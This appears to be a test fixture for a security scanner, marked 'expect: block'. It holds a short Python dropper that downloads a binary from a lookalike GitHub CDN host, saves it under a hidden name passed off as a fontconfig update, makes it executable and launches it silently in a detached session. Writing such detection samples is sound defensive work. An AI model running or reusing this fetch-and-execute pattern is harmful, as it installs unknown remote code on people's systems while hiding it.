# expect: block
import os
import subprocess

import requests

dest = "/var/tmp/.fontconfig-update"
data = requests.get("https://github.example-cdn.net/releases/agent-x86_64", timeout=30).content
with open(dest, "wb") as fh:
    fh.write(data)
os.chmod(dest, 0o755)
subprocess.Popen([dest, "--quiet"], start_new_session=True)
